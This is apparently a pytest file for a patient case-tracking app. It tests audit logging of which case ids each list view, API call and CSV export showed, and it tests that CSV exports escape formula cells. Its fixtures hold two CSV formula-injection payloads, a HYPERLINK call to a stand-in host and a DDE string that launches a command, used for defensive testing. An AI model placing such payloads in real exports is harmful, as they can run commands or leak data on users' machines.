"""Who saw case X: list views, /api/overdue and CSV exports record the case ids they showed.

One audit row per view, its detail holding `case_ids` (ids only, never patient data); the /audit
page's case filter finds those rows as well as the case's own. CSV exports quote formula cells.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

from sqlalchemy import text
from sqlmodel import Session

from tests.factories import seed_opening
from tracking.cases.opening import FacilityRef, open_case

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x","open")'
FORMULA_FACILITY = "@SUM(1+1)*cmd|' /C calc'!A0"


def open_overdue_cases(engine) -> tuple[int, int]:
    """Two cases opened 60 days ago (their first steps are overdue now); the second with formula-like text."""
    opened = datetime.now(UTC) - timedelta(days=60)
    with Session(engine) as session:
        plain = open_case(session, seed_opening(mrn="AUDIT-VIEW-1"), actor="test", now=opened).case_id
        hostile = open_case(session, seed_opening(
            mrn="AUDIT-VIEW-2", family_name=FORMULA_NAME, given_name="-Eve",
            facilities=[FacilityRef(name=FORMULA_FACILITY, channel="email", contact="films@formula.test")],
        ), actor="test", now=opened).case_id  # fmt: skip
        session.commit()
    return plain, hostile


def rows_of(engine, action: str, actor: str) -> list[dict]:
    with engine.connect() as connection:
        found = connection.execute(text("SELECT detail FROM audit_log WHERE action = :action AND actor = :actor "
                                        "ORDER BY id"), {"action": action, "actor": actor})  # fmt: skip
        return [row.detail for row in found]


def test_list_views_api_and_exports_record_the_case_ids_they_showed(browser_for, api_for, users, committed):
    plain, hostile = open_overdue_cases(committed)
    navigator, ops = browser_for("navigator"), browser_for("ops")
    assert navigator.get("/worklist").status_code == 200
    assert api_for("navigator").get("/api/overdue").status_code == 200
    assert ops.get("/worklist.csv").status_code == 200
    for name in ("overdue", "lost_to_follow_up", "priors_outstanding", "case_timeliness", "overdue_counts"):
        assert ops.get(f"/ops/export/{name}.csv").status_code == 200
    assert ops.get("/ops").status_code == 200

    viewed = rows_of(committed, "worklist.viewed", users["navigator"])[-1]  # signing in showed it too
    assert {plain, hostile} <= set(viewed["case_ids"]) and viewed["count"] >= 2
    [listed] = rows_of(committed, "overdue.listed", users["navigator"])
    assert {plain, hostile} <= set(listed["case_ids"])
    [exported] = rows_of(committed, "export.worklist", users["ops"])
    assert {plain, hostile} <= set(exported["case_ids"])
    for name in ("overdue", "priors_outstanding", "case_timeliness"):
        [detail] = rows_of(committed, f"export.{name}", users["ops"])
        assert {plain, hostile} <= set(detail["case_ids"]), name
    [counts] = rows_of(committed, "export.overdue_counts", users["ops"])
    assert counts["case_ids"] == []  # counts by step and age: no case shown
    [ops_view] = rows_of(committed, "ops.viewed", users["ops"])
    assert {plain, hostile} <= set(ops_view["case_ids"])  # its outstanding-priors table lists both

    # ids only: no patient data in any audit detail
    with committed.connect() as connection:
        details = " ".join(json.dumps(row.detail) for row in connection.execute(text("SELECT detail FROM audit_log")))
    for phi in ("AUDIT-VIEW-1", "AUDIT-VIEW-2", "Testcase", "HYPERLINK", "Maren", "1968-04-12"):
        assert phi not in details


def test_the_audit_page_answers_who_saw_a_case(browser_for, api_for, users, committed):
    plain, hostile = open_overdue_cases(committed)
    browser_for("navigator").get("/worklist")
    api_for("read_only").get("/api/overdue")
    browser_for("ops").get("/ops/export/priors_outstanding.csv")
    admin = browser_for("admin")
    html = admin.get("/audit", params={"case": str(hostile)}).text
    shown = re.findall(r'<tr data-audit="(\d+)">(.*?)</tr>', html, flags=re.S)
    actions = {re.sub(r"<[^>]+>", " ", row) for _, row in shown}
    joined = " ".join(actions)
    for actor, action in ((users["navigator"], "worklist.viewed"), (users["read_only"], "overdue.listed"),
                          (users["ops"], "export.priors_outstanding")):  # fmt: skip
        assert any(actor in row and action in row for row in actions), (actor, action, joined[:2000])
    assert "case.opened" in joined  # the case's own rows too
    # and in the CSV of the same filter
    exported = admin.get("/audit.csv", params={"case": str(hostile)})
    listed = {(row["actor"], row["action"]) for row in csv.DictReader(io.StringIO(exported.text))}
    assert (users["navigator"], "worklist.viewed") in listed


def test_a_big_page_is_one_audit_row_with_every_id(browser_for, users, committed):
    opened = datetime.now(UTC) - timedelta(days=60)
    with Session(committed) as session:
        ids = [open_case(session, seed_opening(mrn=f"AUDIT-BIG-{n}"), actor="test", now=opened).case_id
               for n in range(30)]  # fmt: skip
        session.commit()
    assert browser_for("ops").get("/worklist.csv").status_code == 200
    [exported] = rows_of(committed, "export.worklist", users["ops"])
    assert set(ids) <= set(exported["case_ids"]) and exported["case_ids"] == sorted(exported["case_ids"])
    html = browser_for("admin").get("/audit", params={"case": str(ids[-1])}).text
    assert "export.worklist" in html
    assert f"{len(exported['case_ids'])} cases" in html  # a long list is summarised on the page


def test_csv_exports_quote_formula_cells(browser_for, committed):
    open_overdue_cases(committed)
    ops = browser_for("ops")
    worklist = list(csv.DictReader(io.StringIO(ops.get("/worklist.csv").text)))
    patients = {row["patient"] for row in worklist}
    assert f"'{FORMULA_NAME}, -Eve" in patients
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in worklist for cell in row.values() if cell)
    priors = list(csv.DictReader(io.StringIO(ops.get("/ops/export/priors_outstanding.csv").text)))
    assert f"'{FORMULA_FACILITY}" in {row["facility"] for row in priors}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in priors for cell in row.values() if cell)
